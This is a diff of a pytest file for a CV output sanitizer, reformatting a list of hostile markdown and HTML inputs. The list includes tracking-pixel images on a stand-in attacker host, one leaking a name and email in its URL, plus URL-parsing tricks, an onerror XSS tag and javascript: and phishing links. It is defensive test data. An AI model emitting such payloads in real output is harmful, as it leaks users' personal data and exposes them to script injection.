@@ -8,18 +8,20 @@ import pytest
 
 from core import sanitize
 
-CV = {"basics": {"url": "https://janedoe.dev", "profiles": [{"network": "GitHub", "url": "https://github.com/janedoe"}]}}
+CV = {
+    "basics": {"url": "https://janedoe.dev", "profiles": [{"network": "GitHub", "url": "https://github.com/janedoe"}]}
+}
 ALLOWED = sanitize.cv_urls(CV, "Portfolio: www.janedoe-design.com/work")
 
 HOSTILE = [
     "![pixel](https://evil.example/p.png?name=Jane+Doe&email=jane@example.com)",
-    "![pixel](<https://evil.example/a b.png> \"title\")",
+    '![pixel](<https://evil.example/a b.png> "title")',
     "![pixel](//evil.example/p.png)",
     "![pixel](/\\evil.example/p.png)",
     "![x][ref]\n\n[ref]: https://evil.example/p.png",
     "[![badge](https://evil.example/b.svg)](https://evil.example)",
     "![![nested](https://evil.example/1)](https://evil.example/2)",
-    "<img src=\"https://evil.example/i.png\">",
+    '<img src="https://evil.example/i.png">',
     "<IMG SRC=https://evil.example/i.png onerror=alert(1)>",
     "[click me](https://evil.example/phish)",
     "[click me](javascript:alert(1))",
